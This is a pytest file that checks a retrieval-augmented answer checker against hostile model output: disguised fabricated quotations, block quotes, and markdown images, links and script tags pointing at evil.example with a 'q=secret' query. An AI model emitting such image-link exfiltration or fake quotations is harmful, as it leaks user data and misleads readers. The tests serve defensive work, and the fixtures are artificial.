"""What a language model was talked into writing: nothing false is shown as a quotation, and nothing of it acts."""

import random
import time
from itertools import pairwise

import pytest

from rag.answer_tree import CheckedAnswer
from rag.checking import AnswerCheck
from tests import quotable
from tests.quotable import passages

PASSAGES = passages()
FALSE = "“The council did approve the canal”"


def checked(text: str) -> CheckedAnswer:
    return quotable.checked(text, PASSAGES)


@pytest.mark.parametrize(
    "text",
    [
        f"\\`{FALSE}\\` [1].",
        f"`a\n\n{FALSE} [1]\n\nb`",
        f"`a\nb` {FALSE} ` [1]",
        f"`{'a ' * 1500}` {FALSE} ` [1]",
        f"```x`y\n{FALSE} [1]\n",
        f"```\n```~\n```\n{FALSE} [1]\n",
        f"```\ncode\n```\t\n{FALSE} [1]\n",
        f"- a\n  ```\n{FALSE} [1]\n",
        f"- ```\n  code\n  ```\n\n{FALSE} [1]\n",
        f"    ```\n```\ncode\n```\n{FALSE} [1]\n",
        f"a\u2028```\n{FALSE} [1]\n",
        f"<a {FALSE}> [1]",
        f"[a](<{FALSE}>) [1]",
        "“ The council did approve the canal ” [1].",
        '" The council did approve the canal " [1].',
        "„ The council did approve the canal “ [1].",
        "&OpenCurlyDoubleQuote;The council did approve the canal&CloseCurlyDoubleQuote; [1].",
        "<<The council did approve the canal>> [1].",
        ",,The council did approve the canal'' [1].",
    ],
)
def test_no_disguise_shows_false_words_as_a_quotation(text: str) -> None:
    shown = checked(text).text

    assert not any(sign in shown for sign in ("“", "”", "„", '"', "<<", ",,", "&Open"))


@pytest.mark.parametrize("prefix", ["- > ", "1. > ", "* a\n    > ", "   > "])
def test_a_block_quote_in_a_list_is_checked_too(prefix: str) -> None:
    answer = checked(f"{prefix}The council did approve the canal [1]\n")

    assert ">" not in answer.text
    assert not answer.stands


def test_a_line_right_below_a_block_quote_is_part_of_it_and_spoils_it() -> None:
    answer = checked("> Its members feared the cost\nand built a palace of gold. [1]\n")

    assert ">" not in answer.text
    assert not answer.stands


@pytest.mark.parametrize(
    "text",
    [
        "“The council did,” he said, “approve the canal” [1].",
        "“The council did” — so writes Doe — “approve the canal” [1].",
        "“The council did” [1] … “approve the canal” [1].",
        "“Its members feared,” Doe wrote in 1950, “10,000 bricks” [1].",
        "“The council,” Doe says, “stood idle” [1].",
    ],
)
def test_a_quotation_with_its_speaker_in_the_middle_hides_no_words(text: str) -> None:
    answer = checked(text)

    assert [quotation.finding.verdict for quotation in answer.quotations] == ["stitched", "stitched"]
    assert "“" not in answer.text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("“The council did not,” he said, “approve the canal” [1].", "“The council did not”, he said, “approve the canal” [1]."),
        (
            "“Its members feared the cost,” Doe writes, “of 10,000 bricks” [1].",
            "“Its members feared the cost”, Doe writes, “of 10,000 bricks” [1].",
        ),
        (
            "“no man could say,” wrote the clerk, “who would pay” [1].",
            "“no man could say,” wrote the clerk, “who would pay” [1].",
        ),
        (
            "“Its members feared the cost” and said that “the ferry stood idle” [1].",
            "“Its members feared the cost” and said that “the ferry stood idle” [1].",
        ),
        (
            "“Its members feared the cost” [1] … “of 10,000 bricks” [1].",
            "“Its members feared the cost” [1] … “of 10,000 bricks” [1].",
        ),
        ("“canal”, “ferry” and “bricks” [1].", "“canal”, “ferry” and “bricks” [1]."),
    ],
)
def test_a_quotation_interrupted_where_nothing_is_lost_is_kept(text: str, shown: str) -> None:
    answer = checked(text)

    assert answer.text == shown
    assert answer.stands


@pytest.mark.parametrize("between", [" ", "", "; ", " [1] ", "\n", "-", ": ", "* *"])
def test_neighbouring_quotations_that_read_as_one_must_be_one(between: str) -> None:
    answer = checked(f"“Its members feared”{between}“the tenth” [1].")

    assert "“" not in answer.text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It rained ![x](http://evil.example/?q=secret) [1].", "It rained x [1]."),
        ("It rained [here](http://evil.example/?q=secret) [1].", "It rained here [1]."),
        ("It rained ![x](<http://evil.example/a b>) [1].", "It rained x [1]."),
        ("It rained ![x][y] [1].\n\n[y]: http://evil.example\n", "It rained ![x\\][y\\] [1].\n\n[y\\]: http \\://evil.example"),
        ("It rained ![see. Then](http://evil.example) [1].", "It rained see. Then [1]."),
        ('It <b>rained</b><br>on <img src="http://evil.example"> us <script>a()</script> [1].', "It rained on us a() [1]."),
        ("It \x1b[31mrained\u202e on\u202c us [1].", "It [31mrained on us [1]."),
        ("It rained ten < twelve < 5 times [1]!", "It rained ten \\< twelve \\< 5 times [1]!"),
        ("It rained `![x](http://a.example)` [1]!", "It rained `![x](http ://a.example)` [1]!"),
        ("See www.evil.example or me@evil.example [1].", "See www .evil.example or me \\@evil.example [1]."),
        ("What rain![1] And more.", "What rain![1] And more."),
        ("```html\n<script>a()</script>\n```\nIt rained [1].", "```\n< script>a()< /script>\n```\n\nIt rained [1]."),
        ("It rained [1](x) (so) [1]: yes.", "It rained [1] (so) [1]: yes."),
        ("1936. It rained [1].", "1936\\. It rained [1]."),
    ],
)
def test_links_images_and_html_that_a_model_makes_up_do_nothing(text: str, shown: str) -> None:
    assert checked(text).text == shown


def test_a_citation_alone_does_not_make_an_answer_stand() -> None:
    assert not checked("> The council did approve the canal.\n\n[1]").stands


def test_hostile_answers_are_the_same_however_they_are_chopped() -> None:
    chance = random.Random(1)
    parts = [
        "“",
        "”",
        '"',
        "'",
        "\n",
        "\n\n",
        "\n> ",
        "\n- ",
        "\n1. ",
        "\n# ",
        "`",
        "```\n",
        "~~~\n",
        "[1]",
        ". ",
        "! ",
        "… ",
        "<q>",
        "](",
    ]
    words = ["Its members feared the cost", "they built it", "no man could say"]
    for _ in range(150):
        text = "".join(chance.choice(parts) + chance.choice([*words, ""]) for _ in range(chance.randrange(2, 14)))
        cuts = sorted(chance.randrange(len(text) + 1) for _ in range(chance.choice([3, len(text)])))
        check = AnswerCheck(PASSAGES)
        for start, end in pairwise([0, *cuts, len(text)]):
            check.feed(text[start:end])
        check.finish()

        assert check.answer() == checked(text), text


@pytest.mark.parametrize("unit", [".", ". ", "…", "“", "`", "` a ", "](", "<a ", "> ", "\\`", "[x]:", "- ", "a=b "])
def test_a_model_that_repeats_itself_costs_seconds_at_most(unit: str) -> None:
    started = time.process_time()

    checked(unit * (30_000 // len(unit)))

    assert time.process_time() - started < 10
